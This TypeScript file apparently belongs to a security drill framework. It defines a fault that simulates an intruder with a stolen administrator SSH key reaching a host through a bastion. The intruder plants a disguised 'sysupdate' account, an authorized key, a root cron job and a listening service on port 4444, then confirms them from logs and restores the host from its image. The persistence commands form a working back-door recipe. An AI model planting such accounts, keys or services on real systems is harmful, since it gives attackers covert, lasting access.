import type { Instances } from '../../cloud/instances';
import type { ResourceTags } from '../../cloud/resource-tags';
import type { Fault } from '../../drill/fault';
import type { LeasePart } from '../../drill/lease';
import { seconds } from '../../drill/time';
import { taint } from '../../environment/tainted';
import { injectOnHost } from '../../hosts/lease/host-lease';
import { quote, type Shell } from '../../hosts/shell';
import { asRoot } from '../../hosts/as-root';
import { ATTACK_FOLDER, attackLease, type Attacker } from './attack-unit';
import { runningInstance } from '../../cloud/running-instance';
import { untilSeen } from '../until-seen';

export interface PlantBackDoorTarget {
  readonly instance: string;
  readonly address: string;
  readonly host: Shell;
  readonly attacker: Attacker;
  /** By which one comes in from outside. */
  readonly bastion: { readonly address: string; readonly host: Shell };
  readonly user: string;
  /** The private key of an administrator, as it is when the attack begins. */
  readonly stolenKey: () => string;
  readonly instances: Pick<Instances, 'find'>;
  readonly tags: Pick<ResourceTags, 'set'>;
  readonly environmentLease: LeasePart;
  /** `jira (i-0a1)`. */
  readonly named: (signal: AbortSignal) => Promise<string>;
}

/** Named so as not to be noticed. */
const ACCOUNT = 'sysupdate';
const CRON = `/etc/cron.d/${ACCOUNT}`;
const PORT = 4444;
const KEY = `${ATTACK_FOLDER}/key`;

/** What the attacker leaves on the host, in two parts: nothing of it does harm. */
const parts = [
  (ownKey: string) => `set -eu
useradd --create-home --shell /bin/bash ${ACCOUNT}
install -d -m 0700 -o ${ACCOUNT} -g ${ACCOUNT} /home/${ACCOUNT}/.ssh
echo ${quote(ownKey)} > /home/${ACCOUNT}/.ssh/authorized_keys
install -d /etc/cron.d
echo '*/5 * * * * root /usr/local/sbin/${ACCOUNT}' > ${CRON}`,
  () => `set -eu
printf '#!/bin/sh\\n:\\n' > /usr/local/sbin/${ACCOUNT}
chmod 0755 /usr/local/sbin/${ACCOUNT}
cat > /etc/systemd/system/${ACCOUNT}.service <<'END'
[Service]
DynamicUser=yes
RuntimeDirectory=${ACCOUNT}
WorkingDirectory=/run/${ACCOUNT}
ExecStart=/usr/bin/python3 -m http.server ${String(PORT)}
[Install]
WantedBy=multi-user.target
END
systemctl daemon-reload
systemctl enable --quiet --now ${ACCOUNT}.service`,
] as const;

/**
 * Somebody outside who has an administrator's key comes in by the bastion and leaves, on one host, an account, a cron job
 * and a service that listens on a port of its own. Only another root disk is sure to be without it: the instance is
 * tainted, and the golden snapshot's restoration runs it anew from its image. The stolen key is taken back with the attack.
 */
export function plantBackDoor(target: PlantBackDoorTarget): Fault {
  const { instance, address, host, attacker, bastion, user, environmentLease, named } = target;
  const ssh = `ssh -i ${KEY} -o IdentitiesOnly=yes -o BatchMode=yes -o ConnectTimeout=10 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR`;
  const comeIn = `${ssh} -o ProxyCommand=${quote(`${ssh} -W %h:%p ${user}@${bastion.address}`)} ${user}@${address} 'sudo sh -s'`;
  let begun: string | undefined;
  return {
    name: 'plant-back-door',
    strikes: [instance],
    plan: async () => [
      {
        target: `${await named(AbortSignal.timeout(seconds(30)))}: its root disk`,
        change: `leave the account ${ACCOUNT}, ${CRON} and a service on TCP port ${String(PORT)}, from ${attacker.instance}, with the key of ${user}`,
        revert: `run the instance anew from its image: ${environmentLease.description}`,
      },
    ],

    leases: () => Promise.resolve([environmentLease, attackLease(attacker)]),

    inject: async ({ id }, progress, signal) => {
      const { id: instanceId } = await runningInstance(target.instances, instance, signal);
      await taint(target.tags, instanceId, signal);
      const steal = `umask 077; cat > ${KEY}; rm -f ${KEY}.own; ssh-keygen -q -t ed25519 -N '' -C '' -f ${KEY}.own; cat ${KEY}.own.pub`;
      const ownKey = await asRoot(attacker.host, steal, { signal, input: target.stolenKey() });
      begun = (await asRoot(bastion.host, 'date +%s', { signal })).trim();
      const [first, second] = parts;
      await injectOnHost(attacker.host, id, `${comeIn} <<'PART'\n${first(ownKey.trim())}\nPART`, { signal });
      await progress.halfway();
      await injectOnHost(attacker.host, id, `${comeIn} <<'PART'\n${second()}\nPART`, { signal });
    },

    prove: async (signal) => {
      const since = begun;
      if (since === undefined) return { result: 'skipped', observed: `nobody came to ${instance}` };
      return untilSeen(`the back door on ${instance}`, seconds(20), signal, async (attempt) => {
        const asked = { signal: attempt };
        const look = `id -un ${ACCOUNT} 2>/dev/null; ls ${CRON} 2>/dev/null; ss -Hltn 'sport = :${String(PORT)}' | awk '{ print "port " $4 }'`;
        const accepted = `journalctl --quiet --output=cat _COMM=sshd --since=@${since} | grep -c '^Accepted publickey for ${user} from ${attacker.address} ' || true`;
        const [left, entries] = await Promise.all([
          asRoot(host, look, asked),
          asRoot(bastion.host, accepted, asked),
        ]);
        const found = left.split('\n').filter(Boolean);
        const seen = `the bastion let ${attacker.address} in ${entries.trim()} times; on ${instance} there is ${found.join(', ') || 'nothing'}`;
        return found.length >= 3 && Number(entries) > 0 ? { value: seen } : { seen };
      });
    },
  };
}
